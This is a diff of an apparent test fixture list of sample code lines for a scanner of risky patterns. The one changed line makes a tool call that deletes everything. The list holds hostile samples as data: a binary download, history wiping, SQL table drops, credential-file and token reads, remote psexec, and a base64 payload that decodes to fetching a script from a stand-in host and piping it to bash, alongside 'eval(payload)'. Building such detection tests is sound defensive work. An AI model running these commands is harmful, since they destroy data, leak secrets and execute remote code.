@@ -39,7 +39,7 @@ SAMPLE_LINES = [
     "wget https://files.example.com/a.bin", "chmod +x a.bin", "crontab -l", "sudo setcap x", "id_rsa", "history -c", "scp a b@host", "tar -czf out.tgz data", "heartbeat()", "exec.Command(\"bash\")",
     "requests.post(url, data)", "os.getenv('API_TOKEN')", "systemctl enable svc", "pg_dump db", "psexec \\\\host",
     # personal data, irreversible, tools, resources, manifests, soft dependencies
-    "email and phone of the customer", "send_email(user)", "refund(order)", "delete from accounts", "db.execute('drop table users')", "call_tool mcp__fs", "delete_all()", "while true:", "for (;;)",
+    "email and phone of the customer", "send_email(user)", "refund(order)", "delete from accounts", "db.execute('drop table users')", "call_tool(mcp__fs, delete_all)", "delete_all()", "while true:", "for (;;)",
     "r = requests.get(x)", "timeout = 5", "requests>=2.0", "pkg @ git+https://example.com/r.git", "http.Get(cdn + \"/lib.js\")", "manual approval required", "# plain comment line", "// another comment",
     # encoded text and variables
     'const payload = "Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS9ydW4uc2ggfCBiYXNo"', "eval(payload)", "const cmd = payload", "const url = strings.TrimSpace(payload)", "fetch(url)",
